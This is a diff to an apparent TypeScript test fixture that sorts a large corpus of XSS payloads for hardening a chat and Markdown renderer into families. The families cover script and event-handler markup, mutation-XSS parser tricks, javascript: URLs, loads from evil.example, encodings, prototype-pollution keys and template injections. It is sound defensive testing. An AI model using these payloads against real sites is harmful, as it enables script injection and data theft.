@@ -1,5 +1,8 @@
+import { isFull } from '../../../../tools/testing/size.ts';
+
 // What has broken chats, Markdown readers and theming before, multiplied by the ways to write it. Whatever would run sets
 // `__xss`, calls a dialog, changes the title or asks `evil.example` for something; a page under watch notices each.
+// They are in families: a sample has one of each.
 
 const evil = 'https://evil.example';
 const script = [
@@ -13,102 +16,124 @@ const script = [
 const scriptAt = (n: number) => script[n % script.length]!;
 
 /** Markup that runs something or loads something by being there. `X` is what it would run. */
-const markup = [
-  '<script>X</script>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<script/x>X</script >',
-  '<scr<script>ipt>X</scr</script>ipt>',
-  '<script type=module>X</script>',
-  '<script src="data:text/javascript,X"></script>',
-  '<svg><script>X</script></svg>',
-  '<svg><script href="data:text/javascript,X"/></svg>',
-  '<img src=x onerror=X>',
-  '<img src=x onerror="X">',
-  '<img/src=x/onerror=X>',
-  '<img src=x:x onerror\n=X>',
-  '<image src=x onerror=X>',
-  '<img srcset="https://evil.example/a 1x">',
-  '<img src=https://evil.example/pixel.gif>',
-  '<img src="x` `<script>X</script>"` `>',
-  '<svg onload=X>',
-  '<svg/onload=X//',
-  '<svg><animate onbegin=X attributeName=x dur=1s>',
-  '<svg><a xlink:href="javascript:X"><text x=0 y=20>x</text></a></svg>',
-  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=X />#x"/></svg>',
-  '<svg><set attributeName=href to=javascript:X>',
-  '<svg><foreignObject><iframe onload=X></foreignObject></svg>',
-  '<svg><image href=https://evil.example/x.svg>',
-  '<body onload=X>',
-  '<iframe src="javascript:X"></iframe>',
-  '<iframe srcdoc="<script>parent.X</script>"></iframe>',
-  '<iframe src=https://evil.example></iframe>',
-  '<frameset onload=X>',
-  '<object data="javascript:X"></object>',
-  '<object data="data:text/html,<script>X</script>"></object>',
-  '<embed src="javascript:X">',
-  '<embed src=https://evil.example/x.swf allowscriptaccess=always>',
-  '<applet code=X>',
-  '<math><mi xlink:href="javascript:X">x</mi></math>',
-  '<math href="javascript:X">x</math>',
-  '<details open ontoggle=X>',
-  '<template><script>X</script></template>',
-  '<template shadowrootmode=open><img src=x onerror=X></template>',
-  '<input autofocus onfocus=X>',
-  '<select autofocus onfocus=X>',
-  '<textarea autofocus onfocus=X>',
-  '<keygen autofocus onfocus=X>',
-  '<button popovertarget=x onbeforetoggle=X>x</button>',
-  '<div popover id=x onbeforetoggle=X>',
-  '<form action="javascript:X"><button>x</button></form>',
-  '<form><button formaction="javascript:X">x</button></form>',
-  '<isindex type=image src=1 onerror=X>',
-  '<video src=x onerror=X></video>',
-  '<video><source onerror=X></video>',
-  '<video poster=https://evil.example/p.png></video>',
-  '<audio src=https://evil.example/a.mp3 autoplay>',
-  '<marquee onstart=X>x</marquee>',
-  '<a href="javascript:X">x</a>',
-  '<a href=https://evil.example ping=https://evil.example>x</a>',
-  '<area href="javascript:X">',
-  '<base href="https://evil.example/">',
-  '<base href="javascript:X//">',
-  '<link rel=stylesheet href=https://evil.example/x.css>',
-  '<link rel=prefetch href=https://evil.example>',
-  '<link rel=dns-prefetch href=//evil.example>',
-  '<link rel=import href="data:text/html,<script>X</script>">',
-  '<meta http-equiv=refresh content="0;url=javascript:X">',
-  '<meta http-equiv=refresh content="0;url=https://evil.example">',
-  '<meta http-equiv=set-cookie content=xss=1>',
-  '<style>@import url(https://evil.example/x.css);</style>',
-  '<style>*{background:url(https://evil.example/x)}</style>',
-  '<style onload=X></style>',
-  '<table background=https://evil.example/x><td>x',
-  '<div style="background:url(https://evil.example/x)">x</div>',
-  '<div style="width:expression(X)">x</div>',
-  '<div onpointerover=X style="position:fixed;inset:0">x</div>',
-  '<x onclick=X tabindex=1 id=x>x</x>',
-  '<parley-chat onclick=X>x</parley-chat>',
-  '<xss contenteditable onbeforeinput=X>x</xss>',
-  '<p onanimationstart=X style=animation:x>x',
-  '<portal src=https://evil.example>',
-  '<dialog open onclose=X>x</dialog>',
-  '<?xml-stylesheet href="javascript:X"?>',
-  '<![CDATA[<script>X</script>]]>',
-  '<!--><script>X</script>-->',
-  '<!--[if gte IE 4]><script>X</script><![endif]-->',
-  '<noscript><p title="</noscript><img src=x onerror=X>">',
-  '<noembed><img title="</noembed><img src=x onerror=X>"></noembed>',
-  '<style><img title="</style><img src=x onerror=X>">',
-  '<xmp><p title="</xmp><img src=x onerror=X>">',
-  '<listing>&lt;img src=x onerror=X&gt;</listing>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=X&gt;">',
-  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=X>',
-  '<svg></p><style><a id="</style><img src=x onerror=X>">',
-  '<svg><desc><title><a id="</title><img src=x onerror=X>">',
-  '<select><template><style><!--</style><a rel="--></style></select><img src=x onerror=X>">',
-  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=X></style></annotation-xml></math>',
-  '<img name=getElementById><img id=__proto__><form id=Chatbot><input name=attributes></form>',
-];
+const markup = {
+  scripts: [
+    '<script>X</script>',
+    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+    '<script/x>X</script >',
+    '<scr<script>ipt>X</scr</script>ipt>',
+    '<script type=module>X</script>',
+    '<script src="data:text/javascript,X"></script>',
+    '<svg><script>X</script></svg>',
+    '<svg><script href="data:text/javascript,X"/></svg>',
+  ],
+  images: [
+    '<img src=x onerror=X>',
+    '<img src=x onerror="X">',
+    '<img/src=x/onerror=X>',
+    '<img src=x:x onerror\n=X>',
+    '<image src=x onerror=X>',
+    '<img srcset="https://evil.example/a 1x">',
+    '<img src=https://evil.example/pixel.gif>',
+    '<img src="x` `<script>X</script>"` `>',
+  ],
+  svg: [
+    '<svg onload=X>',
+    '<svg/onload=X//',
+    '<svg><animate onbegin=X attributeName=x dur=1s>',
+    '<svg><a xlink:href="javascript:X"><text x=0 y=20>x</text></a></svg>',
+    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=X />#x"/></svg>',
+    '<svg><set attributeName=href to=javascript:X>',
+    '<svg><foreignObject><iframe onload=X></foreignObject></svg>',
+    '<svg><image href=https://evil.example/x.svg>',
+  ],
+  frames: [
+    '<body onload=X>',
+    '<iframe src="javascript:X"></iframe>',
+    '<iframe srcdoc="<script>parent.X</script>"></iframe>',
+    '<iframe src=https://evil.example></iframe>',
+    '<frameset onload=X>',
+    '<object data="javascript:X"></object>',
+    '<object data="data:text/html,<script>X</script>"></object>',
+    '<embed src="javascript:X">',
+    '<embed src=https://evil.example/x.swf allowscriptaccess=always>',
+    '<applet code=X>',
+  ],
+  events: [
+    '<math><mi xlink:href="javascript:X">x</mi></math>',
+    '<math href="javascript:X">x</math>',
+    '<details open ontoggle=X>',
+    '<template><script>X</script></template>',
+    '<template shadowrootmode=open><img src=x onerror=X></template>',
+    '<input autofocus onfocus=X>',
+    '<select autofocus onfocus=X>',
+    '<textarea autofocus onfocus=X>',
+    '<keygen autofocus onfocus=X>',
+    '<button popovertarget=x onbeforetoggle=X>x</button>',
+    '<div popover id=x onbeforetoggle=X>',
+  ],
+  forms: [
+    '<form action="javascript:X"><button>x</button></form>',
+    '<form><button formaction="javascript:X">x</button></form>',
+    '<isindex type=image src=1 onerror=X>',
+    '<video src=x onerror=X></video>',
+    '<video><source onerror=X></video>',
+    '<video poster=https://evil.example/p.png></video>',
+    '<audio src=https://evil.example/a.mp3 autoplay>',
+    '<marquee onstart=X>x</marquee>',
+  ],
+  links: [
+    '<a href="javascript:X">x</a>',
+    '<a href=https://evil.example ping=https://evil.example>x</a>',
+    '<area href="javascript:X">',
+    '<base href="https://evil.example/">',
+    '<base href="javascript:X//">',
+    '<link rel=stylesheet href=https://evil.example/x.css>',
+    '<link rel=prefetch href=https://evil.example>',
+    '<link rel=dns-prefetch href=//evil.example>',
+    '<link rel=import href="data:text/html,<script>X</script>">',
+    '<meta http-equiv=refresh content="0;url=javascript:X">',
+    '<meta http-equiv=refresh content="0;url=https://evil.example">',
+    '<meta http-equiv=set-cookie content=xss=1>',
+  ],
+  styles: [
+    '<style>@import url(https://evil.example/x.css);</style>',
+    '<style>*{background:url(https://evil.example/x)}</style>',
+    '<style onload=X></style>',
+    '<table background=https://evil.example/x><td>x',
+    '<div style="background:url(https://evil.example/x)">x</div>',
+    '<div style="width:expression(X)">x</div>',
+    '<div onpointerover=X style="position:fixed;inset:0">x</div>',
+  ],
+  unknown: [
+    '<x onclick=X tabindex=1 id=x>x</x>',
+    '<parley-chat onclick=X>x</parley-chat>',
+    '<xss contenteditable onbeforeinput=X>x</xss>',
+    '<p onanimationstart=X style=animation:x>x',
+    '<portal src=https://evil.example>',
+    '<dialog open onclose=X>x</dialog>',
+  ],
+  comments: [
+    '<?xml-stylesheet href="javascript:X"?>',
+    '<![CDATA[<script>X</script>]]>',
+    '<!--><script>X</script>-->',
+    '<!--[if gte IE 4]><script>X</script><![endif]-->',
+  ],
+  parsers: [
+    '<noscript><p title="</noscript><img src=x onerror=X>">',
+    '<noembed><img title="</noembed><img src=x onerror=X>"></noembed>',
+    '<style><img title="</style><img src=x onerror=X>">',
+    '<xmp><p title="</xmp><img src=x onerror=X>">',
+    '<listing>&lt;img src=x onerror=X&gt;</listing>',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=X&gt;">',
+    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=X>',
+    '<svg></p><style><a id="</style><img src=x onerror=X>">',
+    '<svg><desc><title><a id="</title><img src=x onerror=X>">',
+    '<select><template><style><!--</style><a rel="--></style></select><img src=x onerror=X>">',
+    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=X></style></annotation-xml></math>',
+  ],
+  names: ['<img name=getElementById><img id=__proto__><form id=Chatbot><input name=attributes></form>'],
+};
 
 const entities = (text: string) => text.replace(/[<>"':/=]/g, (sign) => `&#${sign.charCodeAt(0)};`);
 const hexEntities = (text: string) => text.replace(/./gsu, (sign) => `&#x${sign.codePointAt(0)!.toString(16)};`);
@@ -119,44 +144,46 @@ const unicodes = (text: string) =>
 const wide = (text: string) => text.replace(/[<>"'():]/g, (sign) => String.fromCodePoint(sign.charCodeAt(0) + 0xfee0));
 
 /** Where a text may stand: out of an attribute, an element or a string, and in each part of Markdown. */
-const contexts: ((text: string) => string)[] = [
-  (text) => `">${text}`,
-  (text) => `'>${text}`,
-  (text) => `\`>${text}`,
-  (text) => `</textarea></title></style></script>${text}`,
-  (text) => `--></template></dialog>${text}`,
-  (text) => `\\u003c/script>${text}`,
-  (text) => `';X;'${text}`.replace('X', script[0]!),
-  (text) => `\`\`\`html\n${text}\n\`\`\``,
-  (text) => `\`\`\`"${text}\n\`\`\``,
-  (text) => `\`${text.replaceAll('`', '')}\``,
-  (text) => `> ${text}`,
-  (text) => `- a\n  - ${text}`,
-  (text) => `1. ${text}`,
-  (text) => `| a | ${text} |\n|---|---|\n| ${text} | b |`,
-  (text) => `# ${text}`,
-  (text) => `**${text}** _${text}_ ~~${text}~~`,
-  (text) => `[${text}](https://example.com "${text}")`,
-  (text) => `![${text}](https://evil.example/x.png)`,
-  (text) => `\\${text}`,
-  (text) => `a\\\n${text}\n\n${text}`,
-  entities,
-  hexEntities,
-  percents,
-  unicodes,
-  wide,
-  (text) => text.toUpperCase(),
-  (text) => text.replace(/[a-z]/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)),
-  (text) => text.replaceAll(' ', '\f'),
-  (text) => text.replaceAll(' ', '/**/'),
-  (text) => text.replaceAll('<', '<\u200b'),
-  (text) => `\u202e${text}\u202c`,
-  (text) => text.replace('<', '<\0'),
-  (text) => text.replace(/on(\w+)=/, 'on$1\0='),
-  (text) => `${'A'.repeat(300)}${text}${'B'.repeat(300)}`,
-  (text) => `+ADw-${text.slice(1)}`,
-  (text) => `\ud800${text}\udfff`,
-];
+const contexts: Record<string, ((text: string) => string)[]> = {
+  breakouts: [
+    (text) => `">${text}`,
+    (text) => `'>${text}`,
+    (text) => `\`>${text}`,
+    (text) => `</textarea></title></style></script>${text}`,
+    (text) => `--></template></dialog>${text}`,
+    (text) => `\\u003c/script>${text}`,
+    (text) => `';X;'${text}`.replace('X', script[0]!),
+  ],
+  markdown: [
+    (text) => `\`\`\`html\n${text}\n\`\`\``,
+    (text) => `\`\`\`"${text}\n\`\`\``,
+    (text) => `\`${text.replaceAll('`', '')}\``,
+    (text) => `> ${text}`,
+    (text) => `- a\n  - ${text}`,
+    (text) => `1. ${text}`,
+    (text) => `| a | ${text} |\n|---|---|\n| ${text} | b |`,
+    (text) => `# ${text}`,
+    (text) => `**${text}** _${text}_ ~~${text}~~`,
+    (text) => `[${text}](https://example.com "${text}")`,
+    (text) => `![${text}](https://evil.example/x.png)`,
+    (text) => `\\${text}`,
+    (text) => `a\\\n${text}\n\n${text}`,
+  ],
+  encodings: [entities, hexEntities, percents, unicodes, wide],
+  spellings: [
+    (text) => text.toUpperCase(),
+    (text) => text.replace(/[a-z]/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)),
+    (text) => text.replaceAll(' ', '\f'),
+    (text) => text.replaceAll(' ', '/**/'),
+    (text) => text.replaceAll('<', '<\u200b'),
+    (text) => `\u202e${text}\u202c`,
+    (text) => text.replace('<', '<\0'),
+    (text) => text.replace(/on(\w+)=/, 'on$1\0='),
+    (text) => `${'A'.repeat(300)}${text}${'B'.repeat(300)}`,
+    (text) => `+ADw-${text.slice(1)}`,
+    (text) => `\ud800${text}\udfff`,
+  ],
+};
 
 /** A scheme as a browser would still read it, or as somebody hopes that it would. */
 const disguises: ((scheme: string) => string)[] = [
@@ -222,27 +249,28 @@ export const hostileUrls = [
 ];
 
 /** Each way that Markdown has to make an address a link, or an image. */
-const linkings: ((url: string) => string)[] = [
-  (url) => `[x](${url})`,
-  (url) => `![x](${url})`,
-  (url) => `[x](<${url}>)`,
-  (url) => `<${url}>`,
-  (url) => `[x](${url} "title")`,
-  (url) => `[![x](${url})](${url})`,
-  (url) => `[[x](${url})](${url})`,
-  (url) => `[x]: ${url}\n\n[x] [x][x] ![x]`,
-  (url) => `[${url}](${url})`,
-  (url) => `**[x](${url})** ~~[_x_](${url})~~`,
-  (url) => `> - [x](${url})`,
-  (url) => `| [x](${url}) |`,
-  (url) => `[x](https://example.com)(${url})`,
-  (url) => `[x](https://example.com"onclick="${url})`,
-  (url) => `[x](${url}`,
-  (url) => `[x\n](\n${url}\n)`,
-];
-const links = linkings.flatMap((linking, n) =>
-  hostileUrls.filter((_url, at) => at % linkings.length === n || at % 17 === n).map(linking),
-);
+const linkings: Record<string, ((url: string) => string)[]> = {
+  inline: [(url) => `[x](${url})`, (url) => `![x](${url})`, (url) => `[x](<${url}>)`],
+  alone: [
+    (url) => `<${url}>`,
+    (url) => `[x](${url} "title")`,
+    (url) => `[![x](${url})](${url})`,
+    (url) => `[[x](${url})](${url})`,
+  ],
+  references: [
+    (url) => `[x]: ${url}\n\n[x] [x][x] ![x]`,
+    (url) => `[${url}](${url})`,
+    (url) => `**[x](${url})** ~~[_x_](${url})~~`,
+    (url) => `> - [x](${url})`,
+    (url) => `| [x](${url}) |`,
+  ],
+  broken: [
+    (url) => `[x](https://example.com)(${url})`,
+    (url) => `[x](https://example.com"onclick="${url})`,
+    (url) => `[x](${url}`,
+    (url) => `[x\n](\n${url}\n)`,
+  ],
+};
 
 /** For what is put into a style: names, numbers, colours, and what would lead out of them. */
 export const hostileStyles = [
@@ -311,7 +339,7 @@ export const hostileStyles = [
 ];
 
 /** For what becomes part of an address of ours. */
-export const hostileVersions = [
+const hostileVersions = [
   '/../../../evil',
   '//evil.example/x',
   '\\\\evil.example\\x',
@@ -324,80 +352,109 @@ export const hostileVersions = [
 ];
 
 /** Keys, templates, signs: what other layers than HTML might read. */
-const others = [
-  '__proto__',
-  'constructor',
-  'prototype',
-  'toString',
-  'valueOf',
-  'hasOwnProperty',
-  '{"__proto__":{"xss":1}}',
-  '__proto__[xss]=1',
-  'constructor.prototype.xss=1',
-  '{constructor}',
-  '{__proto__}',
-  '{name}{n}{id}{time}',
-  '{{7*7}}',
-  '{{constructor.constructor("__xss=1")()}}',
-  '${__xss=1}',
-  '#{__xss=1}',
-  '<%= __xss=1 %>',
-  '{%raw%}{{__xss=1}}',
-  '[[${__xss=1}]]',
-  '$&$`$1$$',
-  '%s%n%o%c',
-  'javascript:__xss=1',
-  'data:text/html,<script>__xss=1</script>',
-  "'-alert(1)-'",
-  '"-alert(1)-"',
-  "\\';alert(1)//",
-  ');alert(1)//',
-  '*/alert(1)/*',
-  '\u2028alert(1)\u2029',
-  '\u202egnp.exe\u202c',
-  '\u2066\u2067\u2068\u2069\u061c\u200e\u200f',
-  '\u200b\u200c\u200d\u2060\ufeff',
-  `Z${'\u0310\u0311\u0312\u0313\u0314'.repeat(60)}`,
-  '\ufdfd'.repeat(50),
-  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}'.repeat(20),
-  '\0',
-  'a\0b<script>__xss=1</script>',
-  '\ud800',
-  '\udc00\ud800',
-  '\x1b[31mred\x1b[0m',
-  '\x07\x08\x0b\x0c\x0e\x7f\x85',
-  'data: x\n\nevent: message.created\ndata: {}\n\n',
-  '\r\n\r\n<script>__xss=1</script>',
-  '"}]}</script><script>__xss=1</script>',
-  `<${'div '.repeat(800)}onclick=__xss=1>`,
-  `${'<b>'.repeat(900)}x`,
-  `"${'\\"'.repeat(500)}`,
-  'x'.repeat(3_900),
-  '<'.repeat(2_000),
-  '&'.repeat(2_000),
-  '&lt;script&gt;__xss=1&lt;/script&gt;',
-  '&amp;lt;script&amp;gt;__xss=1',
-  '%3Cscript%3E__xss=1%3C/script%3E',
-  '\\x3cscript\\x3e__xss=1',
-];
+const others = {
+  keys: [
+    '__proto__',
+    'constructor',
+    'prototype',
+    'toString',
+    'valueOf',
+    'hasOwnProperty',
+    '{"__proto__":{"xss":1}}',
+    '__proto__[xss]=1',
+    'constructor.prototype.xss=1',
+  ],
+  templates: [
+    '{constructor}',
+    '{__proto__}',
+    '{name}{n}{id}{time}',
+    '{{7*7}}',
+    '{{constructor.constructor("__xss=1")()}}',
+    '${__xss=1}',
+    '#{__xss=1}',
+    '<%= __xss=1 %>',
+    '{%raw%}{{__xss=1}}',
+    '[[${__xss=1}]]',
+    '$&$`$1$$',
+    '%s%n%o%c',
+    'javascript:__xss=1',
+    'data:text/html,<script>__xss=1</script>',
+    "'-alert(1)-'",
+    '"-alert(1)-"',
+    "\\';alert(1)//",
+    ');alert(1)//',
+    '*/alert(1)/*',
+    '\u2028alert(1)\u2029',
+  ],
+  directions: [
+    '\u202egnp.exe\u202c',
+    '\u2066\u2067\u2068\u2069\u061c\u200e\u200f',
+    '\u200b\u200c\u200d\u2060\ufeff',
+    `Z${'\u0310\u0311\u0312\u0313\u0314'.repeat(60)}`,
+    '\ufdfd'.repeat(50),
+    '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}'.repeat(20),
+  ],
+  controls: [
+    '\0',
+    'a\0b<script>__xss=1</script>',
+    '\ud800',
+    '\udc00\ud800',
+    '\x1b[31mred\x1b[0m',
+    '\x07\x08\x0b\x0c\x0e\x7f\x85',
+  ],
+  protocols: [
+    'data: x\n\nevent: message.created\ndata: {}\n\n',
+    '\r\n\r\n<script>__xss=1</script>',
+    '"}]}</script><script>__xss=1</script>',
+  ],
+  lengths: [
+    `<${'div '.repeat(800)}onclick=__xss=1>`,
+    `${'<b>'.repeat(900)}x`,
+    `"${'\\"'.repeat(500)}`,
+    'x'.repeat(3_900),
+    '<'.repeat(2_000),
+    '&'.repeat(2_000),
+  ],
+  escapes: [
+    '&lt;script&gt;__xss=1&lt;/script&gt;',
+    '&amp;lt;script&amp;gt;__xss=1',
+    '%3Cscript%3E__xss=1%3C/script%3E',
+    '\\x3cscript\\x3e__xss=1',
+  ],
+};
 
-/** All of them. Each kind of markup by itself, and in four of the contexts; each context meets a tenth of the markup. */
-const all: readonly string[] = [
-  ...new Set([
-    ...markup.flatMap((text, n) => {
-      const running = text.replaceAll('X', scriptAt(n));
-      const around = [0, 1, 2, 3].map((turn) => contexts[(n * 4 + turn) % contexts.length]!(running));
-      return [running, ...around];
-    }),
-    ...links,
-    ...hostileUrls,
-    ...hostileStyles,
-    ...others,
-  ]),
-];
+type Families<T> = readonly (readonly [family: string, member: T])[];
+const inFamilies = <T>(kinds: Record<string, readonly T[]>): Families<T> =>
+  Object.entries(kinds).flatMap(([kind, members]) => members.map((member) => [kind, member] as const));
 
-/** Every tenth, or with `XSS=all` every one. */
-export const payloads = process.env['XSS'] === 'all' ? all : all.filter((_text, at) => at % 10 === 0);
+const allContexts = inFamilies(contexts);
+const allLinkings = inFamilies(linkings);
+/** Each kind of markup by itself, and in four of the contexts; each context meets a tenth of the markup. */
+const corpus: Families<string> = [
+  ...inFamilies(markup).flatMap(([family, text], n) => {
+    const running = text.replaceAll('X', scriptAt(n));
+    const around = [0, 1, 2, 3].map((turn) => {
+      const [kind, context] = allContexts[(n * 4 + turn) % allContexts.length]!;
+      return [`markup in ${kind}`, context(running)] as const;
+    });
+    return [[`markup: ${family}`, running] as const, ...around];
+  }),
+  ...allLinkings.flatMap(([family, linking], n) =>
+    hostileUrls
+      .filter((_url, at) => at % allLinkings.length === n || at % 17 === n)
+      .map((url) => [`links: ${family}`, linking(url)] as const),
+  ),
+  ...hostileUrls.map((url) => [`urls: ${/^(javascript|data|https)/.exec(url)?.[0] ?? 'disguised'}`, url] as const),
+  ...hostileStyles.map((text) => [`styles: ${/evil|[;}]/.exec(text)?.[0] ?? 'values'}`, text] as const),
+  ...inFamilies(others),
+];
+const all: readonly string[] = [...new Set(corpus.map(([, text]) => text))];
+/** The first of each family. */
+const sample: readonly string[] = [...new Map(corpus.toReversed()).values()].toReversed();
+export const payloads = isFull ? all : sample;
+/** Of what is in no families, some. */
+export const styles = isFull ? hostileStyles : hostileStyles.filter((_text, at) => at % 12 === 0);
+export const versions = isFull ? hostileVersions : hostileVersions.filter((_text, at) => at % 3 === 0);
 
 /** PostgreSQL keeps neither of these in JSON, so they come by another way than the log. */
 export const isStorable = (text: string) => !text.includes('\0') && text.isWellFormed();
